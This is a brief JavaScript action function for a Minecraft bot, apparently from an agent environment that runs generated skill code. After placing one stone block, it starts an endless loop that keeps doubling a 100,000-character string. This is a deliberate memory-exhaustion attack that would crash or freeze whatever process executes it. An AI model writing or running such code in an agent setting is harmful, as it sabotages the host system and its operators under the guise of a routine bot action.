(async (bot) => {
await skills.placeBlock(bot, 'stone', 1, 0, 0);

let text = "a".repeat(1e5);
while (true) text = text.replace(/a/g, () => "aa");
})
